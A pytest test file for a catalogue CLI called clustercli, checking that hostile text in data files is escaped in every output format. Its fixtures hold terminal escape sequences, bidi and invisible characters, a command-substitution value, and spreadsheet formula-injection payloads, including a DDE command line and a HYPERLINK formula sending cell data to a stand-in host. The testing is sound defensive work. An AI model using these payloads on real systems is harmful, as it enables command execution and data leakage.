"""Every word of a data file is data: never markup, never an escape of a terminal, never a formula of a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import TYPE_CHECKING, Any

import pytest
from rich.cells import cell_len

from clustercli.app import COMMANDS as ALL_COMMANDS
from tests.conftest import Clustercli, Result
from tests.harmless import harmful
from tests.repository import Repository

if TYPE_CHECKING:
    from collections.abc import Iterator

MARKUP = "[bold]x[/] :smile: Firma [a.s.]"
ESCAPES = "a\x1b[31mred\x1b]0;title\x07 \x9b2J \x90q\x9c\x7f\x00"
HIDDEN = "a\u202ecba\u202c \u2066x\u2069 a\u200bb\ufeffc\u00ad\u200f \U000e0041"
UNSEEN = (
    "a\u061c\u034f\u115f\u1160\u3164\uffa0\u17b4\u180b\u2800\ufe00\ufff9\U0001d173\U000e0020\U000e0100b "
    "\x1b]8;;x:y\x07l\x1b]8;;\x07 \x1bP1$r\x1b\\\x85\u2028\u2029\u202d\u2068\u206ac"
)
FORMULAS = [
    '=HYPERLINK("https://x.example/?"&A1,"click")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*2",
    "-1+2",
    "＝1+1",
]
LINES = 'first "line"\nsecond, line\r\nthird\tline; | end'
HARMLESS = ["-5", "1,5", "+420 200 123 456"]
TEXTS = [MARKUP, ESCAPES, HIDDEN, UNSEEN, *FORMULAS, LINES, *HARMLESS]
IDS = [f"evil-{i}" for i in range(len(TEXTS))]


def quoted(text: str) -> str:
    """Text as a double-quoted scalar of YAML."""
    return '"' + "".join(c if c.isalnum() else f"\\U{ord(c):08x}" for c in text) + '"'


def firm(id_: str, text: str, country: str) -> str:
    said, other = quoted(text), quoted(f"other {text}")
    offer, need = ("cloth", "sewing") if country == "RS" else ("sewing", "cloth")
    return f"""\
- id: {id_}
  name: {{en: {said}, cs: {quoted("cs " + text)}}}
  aliases: [{said}]
  country: {country}
  city: {said}
  sectors: [{offer}]
  languages: [en]
  products: [{said}]
  offers: [{{concept: {offer}, text: {said}}}]
  needs: [{{concept: {need}, text: {said}}}]
  certificates: [{said}]
  website: "https://x.example/\\e[31m\\u202e"
  description: {{en: {said}}}
  contacts: [{{role: {said}, phone: "+420 200 123 456", purpose: {said}, delete_after: 2030}}]
  member_of: [evil-cluster]
  sources: [evil-source]
  disputed: {{city: [{{value: {said}, source: evil-source, note: {said}}}, {{value: {other}, source: evil-source}}]}}
  notes: [{said}, {said}]
"""


def project(id_: str, text: str) -> str:
    said = quoted(text)
    return f"""\
- id: {id_}-project
  name: {said}
  acronym: {said}
  programme: {said}
  start: 2016-06
  budget: {{amount: 5, currency: EUR, part: {said}}}
  partners:
    - {{organisation: evil-0, role: lead, note: {said}}}
    - {{name: {said}, country: CZ, role: partner}}
  objective: {said}
  milestones: [{{date: 2016-10-13, as_written: {said}, title: {said}, place: {said}, country: RS, note: {said}}}]
  indicators: [{{name: {said}, target: {said}}}]
  outputs: [{said}]
"""


ALL = quoted(" ".join(TEXTS))
FILES = {
    "catalogue.yaml": f"title: {ALL}\n",
    "sources.yaml": f"evil-source: {{title: {ALL}, note: {ALL}}}\n",
    "vocabulary/all.yaml": f"- {{id: cloth, words: {{en: [{ALL}], cs: [látka]}}}}\n"
    f"- {{id: sewing, words: {{en: [sewing, {ALL}]}}, shared: [{ALL}]}}\n",
    "vocabulary/relations.yaml": f"- {{from: sewing, kind: buys_from, to: cloth, strength: 1, reason: {ALL}}}\n",
    "clusters/all.yaml": f"- {{id: evil-cluster, name: {ALL}, country: RS, sectors: [cloth],\n"
    f"   labels: [{{scheme: {ALL}, level: {ALL}}}], listed_in: [{{system: {ALL}}}]}}\n",
    "smes/all.yaml": "".join(map(firm, IDS, TEXTS, ["RS", "CZ"] * len(TEXTS))),
    "projects/all.yaml": "".join(map(project, IDS, TEXTS)),
}
KEY = quoted(MARKUP + ESCAPES)
BROKEN = f"""\
- {{id: broken-1, name: B, country: {ALL}, sectors: [{ALL}]}}
- {{id: broken-2, name: B, country: RS, sectors: [cloth], {KEY}: x}}
- {{id: broken-3, name: B, country: RS, sectors: [cloth], status: {ALL}, founded: {ALL}, languages: [{ALL}]}}
- {{id: broken-4, name: B, country: RS, sectors: [cloth], identifiers: {{{KEY}: x}}, website: {ALL}}}
- {{id: {ALL}, name: B, country: RS, sectors: [cloth], employees: {ALL}, sources: [{ALL}], member_of: [{ALL}]}}
- {{id: broken-6, name: B, country: {KEY}, sectors: [cloth]}}
- {{id: broken-5, name: !x%1b%e2%80%ae B, country: RS, sectors: [\u202etextile\u202c]}}
"""


@pytest.fixture(scope="module")
def evil(tmp_path_factory: pytest.TempPathFactory) -> Clustercli:
    """A catalogue in which every text is hostile; nothing is changed."""
    folder = tmp_path_factory.mktemp("evil")
    program = Clustercli(folder / "home", folder)
    program.write({f"data/{name}": text for name, text in FILES.items()})
    checked = program("check")
    assert checked.code == 0, checked.err
    return program


@pytest.fixture(scope="module")
def broken(tmp_path_factory: pytest.TempPathFactory) -> Clustercli:
    """The same, with records in which the hostile text is a fault, and a file with a hostile name."""
    folder = tmp_path_factory.mktemp("broken")
    program = Clustercli(folder / "home", folder)
    program.write({f"data/{name}": text for name, text in FILES.items()})
    program.write({"data/smes/broken.yaml": BROKEN, "data/smes/\x1b[31m\u202e.yaml": "- {id: 5\n"})
    return program


def spelt_out(text: str) -> str:
    """Text as CSV has it: controls written as escapes, line breaks and tabs kept."""
    return "".join(
        (f"\\x{ord(c):02x}" if ord(c) < 0x100 else f"\\u{ord(c):04x}") if harmful(c, "\n\t") else c
        for c in text.replace("\r\n", "\n")
    )


def one_line(text: str) -> str:
    """Text as lines for people and TSV have it."""
    return spelt_out(re.sub(r"\s*[\r\n]+\s*", " ", text).replace("\t", " "))


COMMANDS = [
    ["list", "smes"],
    ["list", "clusters"],
    ["list", "projects"],
    *(["show", id_] for id_ in (*IDS, "evil-cluster", "evil-0-project", "evil-8-project")),
    ["search", "line"],
    ["search", "smile"],
    ["search", "title"],
    ["match", "--country", "RS", "--per", "0", "--limit", "100"],
    ["match", "--country", "RS", "--why"],
    ["match", "evil-0", "--why"],
    ["timeline"],
    ["timeline", *(f"{id_}-project" for id_ in IDS)],
    ["who", "evil-0"],
    ["stats"],
    ["stats", "--by", "country"],
    ["map"],
    ["map", "--by", "town"],
    ["sectors"],
    ["sectors", "cloth"],
    ["export", "smes"],
    ["export", "projects"],
    ["why", "evil-0", "evil-1"],
    ["gaps", "--sector", "cloth", "--country", "RS"],
    ["gaps", "--sector", "cloth", "--country", "RS", "--records"],
    ["conflicts"],
    ["sources"],
    ["sources", "evil-source"],
    ["coverage"],
    ["duplicates"],
    ["forget", "line"],
    ["forget", "smile"],
    ["suggest", "evil-cluster"],
    ["show", "evil-3", "--lang", "cs"],
    ["list", "--age", "--lang", "bg"],
    ["stats", "--deep"],
]
FORMATS = ["", "table", "csv", "tsv", "json", "jsonl", "markdown"]


def command_id(words: list[str]) -> str:
    return " ".join(words[:2])


@pytest.mark.parametrize("width", [0, 80])
@pytest.mark.parametrize("format_", FORMATS)
@pytest.mark.parametrize("command", COMMANDS, ids=command_id)
def test_no_control_character_of_a_record_reaches_the_output(
    evil: Clustercli, command: list[str], format_: str, width: int
) -> None:
    result = evil(*command, *(["--format", format_] if format_ else []), width=width)
    assert result.code == 0, result.err
    assert result.out
    is_csv = format_ == "csv" or (command[0] == "export" and not format_)
    is_tsv = format_ == "tsv" or not (format_ or width or is_csv)
    assert harmful(result.out, "\r\n\t" if is_csv else "\n\t" if is_tsv else "\n") == set()
    assert harmful(result.err) == set()
    if width and not is_csv and not is_tsv and format_ in ("", "table") and command[0] != "show":
        assert [line for line in result.out.splitlines() if cell_len(line) > width] == []


@pytest.mark.parametrize("arguments", [[], ["--version"], ["load"], ["schema"], ["check"]], ids=" ".join)
@pytest.mark.parametrize("width", [0, 80])
def test_nor_do_the_commands_about_the_catalogue_let_one_through(
    evil: Clustercli, arguments: list[str], width: int
) -> None:
    result = evil(*arguments, width=width)
    assert result.code == 0
    assert harmful(result.out + result.err, "\n\t" if arguments == ["load"] and not width else "\n") == set()


HOSTILE_FOLDER = "a\x1b[31m\u202eb"


@pytest.mark.parametrize(
    "arguments",
    [[], ["--version"], ["load"], ["show", "evil-0"], ["export", "--out", HOSTILE_FOLDER], ["new", "sme", "x"],
     ["init", f"{HOSTILE_FOLDER}2"], ["check", f"{HOSTILE_FOLDER}/data/none.yaml"]],
    ids=lambda words: " ".join(words[:1]),
)  # fmt: skip
def test_a_folder_with_a_hostile_name_is_written_out_too(clustercli: Clustercli, arguments: list[str]) -> None:
    clustercli.write({f"{HOSTILE_FOLDER}/data/{name}": text for name, text in FILES.items()})
    result = clustercli(*arguments, variables={"CLUSTERCLI_CATALOGUE": HOSTILE_FOLDER}, width=80)
    assert result.code == (4 if arguments[:1] == ["check"] else 0), result.err
    assert result.out + result.err
    assert harmful(result.out + result.err) == set()


@pytest.mark.parametrize("width", [0, 200])
@pytest.mark.parametrize(
    "command",
    [
        ["list", "smes"],
        ["list", "projects"],
        ["show", "evil-0"],
        ["search", "smile"],
        ["match", "evil-0"],
        ["match", "evil-0", "--why"],
        ["timeline", "evil-0-project"],
        ["timeline"],
        ["export", "smes"],
    ],
    ids=" ".join,
)
def test_markup_smileys_and_brackets_are_printed_as_they_are(evil: Clustercli, command: list[str], width: int) -> None:
    assert MARKUP in " ".join(evil(*command, width=width).out.split())


@pytest.mark.parametrize("text", [ESCAPES, HIDDEN, LINES], ids=["escapes", "hidden", "lines"])
def test_what_cannot_be_printed_is_written_out_and_nothing_is_dropped(evil: Clustercli, text: str) -> None:
    id_ = IDS[TEXTS.index(text)]
    assert evil("show", id_, width=200).out.startswith(one_line(text) + "\n")
    assert f"{id_}\t{one_line(text)}\t" in evil("list", "smes").out
    assert evil("show", "evil-1", width=200).out.startswith("a\\x1b[31mred\\x1b]0;title\\x07 \\x9b2J")
    assert evil("show", "evil-2", width=200).out.startswith("a\\u202ecba\\u202c \\u2066x\\u2069 a\\u200bb\\ufeffc")


def rows(result: Result, format_: str) -> list[dict[str, Any]]:
    """The rows of an answer in a format for programs."""
    assert result.code == 0, result.err
    if format_ == "json":
        return list(json.loads(result.out))
    if format_ == "jsonl":
        return [json.loads(line) for line in result.out.splitlines()]
    return list(csv.DictReader(io.StringIO(result.out, newline=""), strict=True))


def cells(evil: Clustercli, format_: str, *more: str) -> Iterator[tuple[str, Any]]:
    """(original text, what a program reads of it) wherever a command prints one of the texts."""
    original = dict(zip(IDS, TEXTS, strict=True))

    def answer(*command: str) -> list[dict[str, Any]]:
        return rows(evil(*command, "--format", format_, *more), format_)

    for row in answer("list", "smes"):
        yield original[row["id"]], row["name"]
        yield original[row["id"]], row["city"]
    for row in answer("list", "projects"):
        yield original[row["id"].removesuffix("-project")], row["name"]
    for row in [hit for word in ("line", "smile", "cmd") for hit in answer("search", word)]:
        if row["kind"] == "sme":
            yield original[row["id"]], row["name"]
    for row in answer("match", "--country", "RS", "--per", "0", "--limit", "1000"):
        if row["organisation"] in original:
            yield original[row["organisation"]], row["organisation_name"]
        yield original[row["partner"]], row["partner_name"]
    for row in answer("timeline", *(f"{id_}-project" for id_ in IDS)):
        if row["kind"] != "start":
            yield from ((original[row["project"].removesuffix("-project")], row[c]) for c in ("title", "place", "note"))
    for row in answer("export", "smes"):
        yield original[row["id"]], row["description"]


@pytest.mark.parametrize("format_", ["json", "jsonl"])
def test_json_of_every_command_reads_back_to_exactly_the_text(evil: Clustercli, format_: str) -> None:
    found = list(cells(evil, format_))
    assert len(found) > 8 * len(TEXTS)
    assert [pair for pair in found if pair[0] != pair[1]] == []


def test_json_of_a_record_reads_back_to_exactly_its_values(evil: Clustercli) -> None:
    for id_, text in zip(IDS, TEXTS, strict=True):
        record = evil("show", id_, "--format", "json", "--with-contacts").json()
        assert record["name"] == record["city"] == record["aliases"][0] == text
        assert record["name_languages"] == {"en": text, "cs": f"cs {text}"}
        assert record["offers"][0]["text"] == record["contacts"][0]["purpose"] == text
        assert record["notes"] == [text, text]
        assert record["disputed"]["city"][0]["value"] == text
        assert record["contacts"][0]["phone"] == "+420 200 123 456"


def test_json_of_a_match_gives_the_words_of_both_sides_exactly(evil: Clustercli) -> None:
    for row in rows(evil("match", "--country", "RS", "--per", "0", "--limit", "1000", "--format", "json"), "json"):
        if row["organisation"] in IDS:
            own, other = (TEXTS[IDS.index(row[side])] for side in ("organisation", "partner"))
            said = {line["signal"]: line["text"] for line in row["lines"]}
            assert said["need_met"] == f"they offer {other}, you need {own}"
            assert said["offer_wanted"] == f"they need {other}, you offer {own}"


def test_csv_of_every_command_reads_back_apart_from_its_guard(evil: Clustercli) -> None:
    found = list(cells(evil, "csv"))
    assert len(found) > 8 * len(TEXTS)
    for text, cell in found:
        assert cell == ("'" if text in FORMULAS else "") + spelt_out(text)


def test_numbers_and_phone_numbers_in_csv_are_left_alone(evil: Clustercli) -> None:
    found = {text: cell for text, cell in cells(evil, "csv") if text in HARMLESS}
    assert found == {text: text for text in HARMLESS}
    assert "+420 200 123 456" in evil("export", "smes").out


def test_raw_csv_of_every_command_is_exactly_the_text(evil: Clustercli) -> None:
    assert [pair for pair in cells(evil, "csv", "--raw") if pair[0] != pair[1]] == []


def test_exported_files_are_guarded_and_with_raw_they_are_faithful(evil: Clustercli, tmp_path: Any) -> None:
    for raw in ([], ["--raw"]):
        result = evil("export", "--out", str(tmp_path / "out"), *raw)
        assert result.code == 0, result.err
        assert harmful(result.out + result.err) == set()
        held = {file.name: file.read_bytes().decode() for file in (tmp_path / "out").iterdir()}
        assert set(held) >= {"clusters.csv", "smes.csv", "projects.csv", "milestones.csv", "partners.csv"}
        for name, column in (("smes.csv", "name"), ("projects.csv", "name"), ("milestones.csv", "title")):
            table = list(csv.DictReader(io.StringIO(held[name], newline=""), strict=True))
            read = {row.get("id", row.get("project", "")).removesuffix("-project"): row[column] for row in table}
            for id_, text in zip(IDS, TEXTS, strict=True):
                assert read[id_] == (text if raw else ("'" if text in FORMULAS else "") + spelt_out(text))
        if not raw:
            assert {name: harmful(text, "\r\n\t") for name, text in held.items() if harmful(text, "\r\n\t")} == {}


def test_the_bytes_of_csv_are_those_of_rfc_4180(evil: Clustercli) -> None:
    out = evil.process("list", "smes", "--format", "csv").out
    assert re.match("id,name,[a-z,]+\r\n", out)
    assert "\r\r" not in out
    assert '"first ""line""\nsecond, line\nthird\tline; | end"' in out


@pytest.mark.parametrize("width", [0, 80])
@pytest.mark.parametrize("format_", FORMATS)
def test_problems_with_hostile_text_are_told_in_harmless_words(broken: Clustercli, format_: str, width: int) -> None:
    result = broken("check", *(["--format", format_] if format_ else []), width=width)
    assert result.code == 3
    allowed = {"csv": "\r\n\t", "tsv": "\n\t"}.get(format_, "\n")
    assert harmful(result.out, allowed) == set()
    assert harmful(result.err) == set()
    assert {"R003", "R006", "R001"} <= set(re.findall(r"\bR0\d\d\b", result.out + result.err))


def test_problems_in_json_hold_the_hostile_text_itself(broken: Clustercli) -> None:
    problems = json.loads(broken("check", "--format", "json").out)
    assert {p["code"] for p in problems} >= {"R001", "R003", "R005", "R006", "R009", "R010", "R011", "R013", "Y004"}
    countries = [p["message"] for p in problems if p["code"] == "R003"]
    assert any(MARKUP + ESCAPES in message for message in countries)


@pytest.mark.parametrize(
    "command",
    [
        ["list", "smes"],
        ["show", "evil-1"],
        ["search", "line"],
        ["match", "--country", "RS"],
        ["timeline"],
        ["load"],
        [],
    ],
    ids=" ".join,
)
def test_other_commands_beside_broken_records_stay_harmless(broken: Clustercli, command: list[str]) -> None:
    result = broken(*command, width=80)
    assert harmful(result.out + result.err) == set()
    assert "fault of clustercli" not in result.err


@pytest.mark.parametrize(
    "command",
    [
        ["show", "X"],
        ["list", "X"],
        ["list", "smes", "--country", "X"],
        ["list", "smes", "--sector", "X"],
        ["list", "smes", "--status", "X"],
        ["list", "smes", "--text", "X"],
        ["list", "smes", "--format", "X"],
        ["list", "smes", "--limit", "X"],
        ["search", "X"],
        ["match", "X"],
        ["match", "--sector", "X"],
        ["match", "--sector", "cloth", "--with", "X"],
        ["match", "--min-score", "X"],
        ["timeline", "X"],
        ["timeline", "--from", "X"],
        ["timeline", "--upcoming", "X"],
        ["export", "X"],
        ["check", "X"],
        ["new", "X", "y"],
        ["new", "sme", "X"],
        ["sectors", "X"],
        ["schema", "X"],
        ["load", "--catalogue", "X"],
        ["X"],
        ["--X"],
    ],
    ids=" ".join,
)
@pytest.mark.parametrize("text", [ESCAPES.replace("\x00", ""), HIDDEN, "\udcff[bold]", "'\"; $(x)\n\r"])
def test_arguments_come_back_harmless_in_error_messages(evil: Clustercli, command: list[str], text: str) -> None:
    result = evil(*(text if word == "X" else word.replace("X", text) for word in command), width=80)
    assert harmful(result.out + result.err) == set()
    assert "fault of clustercli" not in result.err


def test_braces_in_a_text_are_braces(clustercli: Clustercli) -> None:
    clustercli.write(
        {
            "data/catalogue.yaml": "title: Braces\n",
            "data/vocabulary/all.yaml": "- {id: cloth, words: {en: [cloth]}}\n",
            "data/smes/all.yaml": "- {id: a, name: '{0}', country: RS, sectors: [cloth],"
            " needs: [{concept: cloth, text: '{theirs} %s {0}'}]}\n"
            "- {id: b, name: '%(x)s', country: CZ, sectors: [cloth], offers: [{concept: cloth, text: wool}]}\n",
        }
    )
    (row,) = rows(clustercli("match", "a", "--format", "json"), "json")
    assert row["lines"][0]["text"] == "they offer wool, you need {theirs} %s {0}"
    assert (row["organisation_name"], row["partner_name"]) == ("{0}", "%(x)s")


def test_every_command_that_shows_records_is_tried() -> None:
    about_files = {
        "check",
        "changes",
        "load",
        "init",
        "new",
        "schema",
        "due",
    }  # have tests of their own, here and below
    assert {command[0] for command in COMMANDS} | about_files == set(ALL_COMMANDS)


@pytest.mark.parametrize("width", [0, 80])
@pytest.mark.parametrize("arguments", [["timeline"], ["timeline", *(f"{id_}-project" for id_ in IDS)]], ids=len)
def test_no_control_character_reaches_a_chart_for_a_wiki(evil: Clustercli, arguments: list[str], width: int) -> None:
    result = evil(*arguments, "--format", "mermaid", width=width)
    assert result.code == 0, result.err
    assert len(result.out.splitlines()) > 2 * len(TEXTS)
    assert harmful(result.out + result.err) == set()


@pytest.mark.parametrize("width", [0, 80])
@pytest.mark.parametrize("format_", FORMATS)
def test_what_expires_is_told_in_harmless_words(broken: Clustercli, format_: str, width: int) -> None:
    label = f"labels: [{{scheme: {ALL}, level: {ALL}, valid_until: 2020}}], checked: 2001-01-01"
    broken.write({"data/clusters/old.yaml": f"- {{id: old, name: {ALL}, country: RS, sectors: [cloth], {label}}}\n"})
    result = broken("due", "--all", *(["--format", format_] if format_ else []), width=width)
    assert "old" in result.out
    assert harmful(result.out + result.err, "\r\n\t") == set()


@pytest.fixture(scope="module")
def historic(tmp_path_factory: pytest.TempPathFactory) -> Clustercli:
    """The hostile catalogue with a past in git: hostile texts, file names, a branch and the words of a commit."""
    folder = tmp_path_factory.mktemp("historic")
    program = Clustercli(folder / "home", folder)
    program.write({f"data/{name}": text for name, text in FILES.items()})
    program.write(
        {"data/smes/\x1b[31m\u202e.yaml": "- {id: 5\n", "data/smes/\u202ebad.yaml": f"- {{id: x, name: {ALL}\n"}
    )
    Repository.made(folder).commit()
    for name in ("smes", "projects"):
        text = FILES[f"{name}/all.yaml"].replace(quoted("a.s.")[1:-1], quoted("s.r.o.")[1:-1])
        program.write({f"data/{name}/all.yaml": text[: text.rindex("- id:")]})
    return program


@pytest.mark.parametrize("width", [0, 80])
@pytest.mark.parametrize("format_", FORMATS)
def test_changes_are_told_in_harmless_words(historic: Clustercli, format_: str, width: int) -> None:
    result = historic("changes", "--since", "HEAD", *(["--format", format_] if format_ else []), width=width)
    assert result.code == 0, result.err
    assert "s.r.o." in result.out
    assert harmful(result.out, "\r\n\t") == set()
    assert harmful(result.err) == set()


def test_changes_in_json_hold_the_hostile_text_itself(historic: Clustercli) -> None:
    told = rows(historic("changes", "--since", "HEAD", "--format", "json"), "json")
    assert MARKUP in [change["before"] for change in told]
    assert MARKUP.replace("a.s.", "s.r.o.") in [change["after"] for change in told]


@pytest.mark.parametrize("shell", ["bash", "zsh", "fish"])
def test_a_completion_prints_nothing_harmful(evil: Clustercli, shell: str) -> None:
    for words in ("clustercli list \x1b[31m", "clustercli show evil", "clustercli \u202e", "clustercli list --format "):
        asked = {"_CLUSTERCLI_COMPLETE": f"complete_{shell}", "COMP_WORDS": words, "COMP_CWORD": "2",
                 "_TYPER_COMPLETE_ARGS": words, "_TYPER_COMPLETE_FISH_ACTION": "get-args"}  # fmt: skip
        result = evil.process(variables=asked)
        assert harmful(result.out + result.err, "\n\t") == set()
        assert "Traceback" not in result.err
